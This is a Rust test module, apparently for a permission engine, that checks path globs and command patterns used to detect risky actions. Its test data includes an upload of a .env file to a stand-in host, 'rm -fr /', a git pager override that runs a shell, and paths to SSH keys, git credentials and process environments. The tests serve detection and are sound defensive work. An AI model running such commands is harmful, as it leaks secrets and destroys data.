    pub(crate) fn covers(&self, other: &Resource) -> bool {
        match (self, other) {
            (Resource::Path(a), Resource::Path(b)) => a.covers(b),
            (Resource::Command(a), Resource::Command(b)) => a.covers(b),
            (Resource::Url(a), Resource::Url(b)) => a.covers(b),
            _ => false,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn a_globs_literal_is_what_every_match_holds() {
        for (glob, literal) in [
            ("**/.env", Some(".env")),
            ("**/*.pem", Some(".pem")),
            ("/home/u/.ssh/**", Some(".ssh")),
            ("**/.git/**", Some(".git")),
            ("src/{a,bcdef}/x", Some("src")),
            ("[abcdef]x", Some("x")),
            ("a\\*bc", Some("a*bc")),
            ("**/*", None),
            ("[z-a]bc", None),
            ("{a,{b}}cd", None),
            ("ab}", None),
            ("[abc", None),
            ("x\\", None),
        ] {
            assert_eq!(longest_literal(glob).as_deref(), literal, "{glob}");
        }
    }

    proptest! {
        /// The shortcut never says "no match" where the compiled glob matches: exact, and
        /// folded (case and Unicode), relative to a root and whole.
        #[test]
        fn a_path_without_the_literal_does_not_match(
            glob in "[ab.A/*?\\[\\]{},!\\-\u{e9}\u{17f}\u{212a}]{1,8}",
            path in "[abAB./sS\u{e9}\u{17f}\u{212a}kK]{1,10}",
        ) {
            let Ok(glob) = PathGlob::new(&glob, None) else {
                return Ok(());
            };
            let matcher = PathMatcher::new(vec![glob.clone()]);
            prop_assume!(matcher.compile().is_ok());
            let roots = [PathBuf::from("/ws")];
            for whole in [format!("/ws/{path}"), format!("/{path}")] {
                for fold in [false, true] {
                    if !glob.may_match(&whole, fold) {
                        prop_assert!(
                            !matcher.is_match(Path::new(&whole), &roots, fold),
                            "{} matches {} (fold {})", glob.text, whole, fold
                        );
                    }
                }
            }
        }
    }

    fn words(s: &str) -> Vec<Word> {
        s.split_whitespace().map(Word::literal).collect()
    }

    #[test]
    fn command_patterns() {
        let p = CommandPattern::parse("git {status,log}").unwrap();
        assert!(p.is_prefix_of(&words("git status -s")));
        assert!(p.is_prefix_of(&words("git log")));
        assert!(!p.is_prefix_of(&words("git statusx")));
        assert!(!p.is_prefix_of(&words("/tmp/git status")));
        // git's own options aside: `-C`'s folder is a path subject, `-c` and `--git-dir` ask.
        assert!(p.is_prefix_of(&words("git -C x status")));
        assert!(p.is_prefix_of(&words("git --no-pager -P log -n 3")));
        assert!(!p.is_prefix_of(&words("git -C x push")));
        assert!(!p.is_prefix_of(&words("git -c core.pager=sh log")));
        assert!(!p.is_prefix_of(&words("git --git-dir=/x/.git log")));
        let push = CommandPattern::parse("git push").unwrap();
        assert!(push.appears_in(&[], &words("git --no-pager -C . push origin"), None));
        assert!(push.appears_in(&[], &words("git -c x=y push"), None));
        assert!(push.appears_in(&[], &words("git send-pack origin main"), None));
        assert!(push.appears_in(&[], &words("git subtree push --prefix d o b"), None));
        assert!(!push.appears_in(&[], &words("grep push notes.md"), None));
        assert!(!push.appears_in(&[], &words("git log --grep push"), None));
        assert!(p.appears_in(&[], &words("/tmp/git status"), None));
        assert!(p.appears_in(&[words("sudo git log")], &words("git log"), None));
        // Spellings of the same act.
        let rf = CommandPattern::parse("rm -rf").unwrap();
        for line in [
            "rm -fr /",
            "rm -r -f x",
            "rm x -rf",
            "rm --recursive --force x",
            "rm --rec --for x",
        ] {
            assert!(rf.appears_in(&[], &words(line), None), "{line}");
        }
        assert!(!rf.appears_in(&[], &words("rm -f x"), None));
        let hard = CommandPattern::parse("git reset --hard").unwrap();
        assert!(hard.appears_in(&[], &words("git reset HEAD~3 --hard"), None));
        let publish = CommandPattern::parse("npm publish").unwrap();
        assert!(publish.appears_in(&[], &words("npm publ"), None));
        let cargo = CommandPattern::parse("cargo publish").unwrap();
        assert!(cargo.appears_in(&[], &words("cargo -q publish"), None));
        let curl = CommandPattern::parse("curl -T").unwrap();
        assert!(curl.appears_in(
            &[],
            &words("curl --upload-file .env https://x.example"),
            None
        ));
        assert!(curl.appears_in(&[], &words("curl -sT .env https://x.example"), None));
        let tar = CommandPattern::parse("tar -x").unwrap();
        assert!(tar.appears_in(&[], &words("bsdtar xf a.tar"), None));
        let any = CommandPattern::parse("npm run *").unwrap();
        assert!(any.is_prefix_of(&words("npm run build")));
        assert!(!any.is_prefix_of(&words("npm run")));
        assert!(CommandPattern::parse("* x").is_err());
        assert!(CommandPattern::parse("  ").is_err());
        assert!(CommandPattern::parse("git").unwrap().covers(&p));
        assert!(!p.covers(&CommandPattern::parse("git").unwrap()));
    }

    #[test]
    fn path_globs() {
        let roots = [PathBuf::from("/ws")];
        let m =
            |g: &str| PathMatcher::new(vec![PathGlob::new(g, Some(Path::new("/home/u"))).unwrap()]);
        let env = m("**/.env");
        assert!(env.is_match(Path::new("/ws/.env"), &roots, false));
        assert!(env.is_match(Path::new("/ws/a/b/.env"), &roots, false));
        assert!(!env.is_match(Path::new("/ws/.envrc"), &roots, false));
        assert!(
            env.is_match(Path::new("/home/u/.env"), &roots, false),
            "outside every root, `**/` matches anywhere"
        );
        assert!(!env.is_match(Path::new("/ws/.ENV"), &roots, false));
        assert!(env.is_match(Path::new("/ws/.ENV"), &roots, true));
        let src = m("src/*.rs");
        assert!(src.is_match(Path::new("/ws/src/a.rs"), &roots, false));
        assert!(
            !src.is_match(Path::new("/ws/src/x/a.rs"), &roots, false),
            "`*` stays in one folder"
        );
        assert!(!src.is_match(Path::new("/other/src/a.rs"), &roots, false));
        assert!(m("/etc/**").is_match(Path::new("/etc/passwd"), &roots, false));
        assert!(m("~/.ssh/**").is_match(Path::new("/home/u/.ssh/id_rsa"), &roots, false));
        assert!(
            m("**/café").is_match(Path::new("/ws/cafe\u{301}"), &roots, true),
            "NFD spelling of the same name"
        );
        assert!(PathGlob::new("[", None).is_err());
    }

    #[test]
    fn what_lies_inside_a_folder() {
        let roots = [PathBuf::from("/ws")];
        let m =
            |g: &str| PathMatcher::new(vec![PathGlob::new(g, Some(Path::new("/home/u"))).unwrap()]);
        let inside = |g: &str, folder: &str| m(g).holds_inside(Path::new(folder), &roots, false);
        // By place: the folders on the way, the folder named, and what the glob names.
        for folder in ["/", "/home", "/home/u", "/home/u/.ssh", "/home/u/.ssh/keys"] {
            assert!(inside("~/.ssh/**", folder), "{folder}");
        }
        for folder in ["/home/v", "/ws", "/home/u/.sshx", "/etc"] {
            assert!(!inside("~/.ssh/**", folder), "{folder}");
        }
        assert!(inside("~/.git-credentials", "/home/u"));
        assert!(
            !inside("~/.git-credentials", "/home/u/.git-credentials"),
            "a file, not inside"
        );
        assert!(inside("/proc/*/environ", "/proc"));
        assert!(inside("/proc/*/environ", "/proc/self"));
        assert!(!inside("/proc/*/environ", "/proc/self/environ"));
        // Relative globs, from each root.
        assert!(inside("config/secrets/**", "/ws"));
        assert!(inside("config/secrets/**", "/ws/config"));
        assert!(!inside("config/secrets/**", "/ws/src"));
        assert!(!inside("config/secrets/**", "/other/config"));
        assert!(inside("config/{secrets,keys}/*", "/ws/config"));
        // At any depth: only inside what it names, never inside every folder.
        assert!(inside("**/.git/**", "/ws/.git"));
        assert!(inside("**/.git/**", "/ws/sub/.git/hooks"));
        assert!(!inside("**/.git/**", "/ws"));
        assert!(!inside("**/.env", "/ws/config"));
        assert!(!inside("**/*.pem", "/ws"));
        assert!(!inside("**", "/ws"));
        // Folders that cannot be told apart: left to the glob's own match.
        assert!(!inside("{a/b,c}/**", "/ws/a"));
        // Case and Unicode folding, as for the folder itself.
        assert!(!inside("~/.SSH/**", "/home/u/.ssh"));
        assert!(m("~/.SSH/**").holds_inside(Path::new("/home/u/.ssh"), &roots, true));
        assert_eq!(
            m("~/.ssh/**").reaching_inside(Path::new("/home"), &roots, false),
            Some("~/.ssh/**")
        );
    }

    #[test]
    fn a_glob_is_split_into_its_folders() {
        assert_eq!(components("a/b/**/c"), Some(vec!["a", "b", "**", "c"]));
        assert_eq!(components("a//b/"), Some(vec!["a", "b"]));
        assert_eq!(components("{a,b}/c"), Some(vec!["{a,b}", "c"]));
        assert_eq!(components("a\\/b/c"), Some(vec!["a\\/b", "c"]));
        assert_eq!(components("{a/b,c}"), None);
        assert_eq!(components("[/]x"), None);
    }
}
